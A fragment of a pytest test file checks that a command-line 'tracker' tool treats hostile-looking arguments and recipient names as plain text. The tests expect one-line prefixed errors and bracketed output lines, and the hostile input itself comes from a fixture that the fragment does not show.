@pytest.mark.parametrize("question", ["report --tag", "report --event", "show", "why", "remind --recipient"])
def test_what_is_asked_is_said_in_one_line(hostile: Hostile, question: str) -> None:
    """A word of the command line, and a similar one of the store, are only text in the answer too."""
    ran = hostile.ask(*question.split(), f"{hostile.evil} event.tag".replace("\0", ""))
    assert ran.status in {1, 2}
    assert_harmless(ran)
    assert ran.err.startswith("tracker: ")
    assert ran.err.count("\n") == 1


@pytest.mark.parametrize("option", ["--dry-run", "--list"])
def test_the_name_of_a_recipient_is_text(
    hostile: Hostile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, option: str
) -> None:
    """It is in brackets in the line above the recipient's messages."""
    names = [f"{hostile.evil} {number}" for number in (1, 2)]
    config = tmp_path / "config.toml"
    config.write_text(
        tomli_w.dumps({"recipient": {name: {"command": ["true"]} for name in names}}), encoding="utf-8"
    )
    monkeypatch.setenv("TRACKER_CONFIG", str(config))
    ran = hostile.ask("remind", option, "--ledger", tmp_path / "ledger.db")
    assert_harmless(ran)
    assert [f"[{as_text(name)}]" for name in names] == [
        line for line in ran.out.split("\n") if line.startswith("[")
    ]
